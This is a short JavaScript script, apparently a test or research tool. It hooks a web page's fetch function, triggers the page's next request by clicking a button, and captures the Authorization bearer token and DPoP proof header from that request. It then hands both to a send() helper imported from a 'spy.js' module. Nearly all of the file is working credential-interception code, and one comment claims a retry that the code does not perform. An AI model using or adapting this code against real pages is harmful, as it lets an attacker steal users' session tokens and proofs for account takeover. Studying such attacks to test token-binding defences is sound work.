// Stands between the page and its server, and takes the token of the page's own next request, proof included.
import { send, until } from "./spy.js";

await until("signed-in");
const taken = new Promise((resolve) => {
  const original = window.fetch;
  window.fetch = async (input, init) => {
    const answer = await original(input, init);
    // A request that was refused is made again, with a better proof.
    if (answer.ok) {
      window.fetch = original;
      resolve(new Headers(init?.headers));
    }
    return answer;
  };
});
document.getElementById("again").click();
const headers = await taken;
const [, token] = headers.get("authorization")?.split(" ") ?? [];
await send(token ? { credential: "bearer", value: token, proof: headers.get("dpop") } : null);
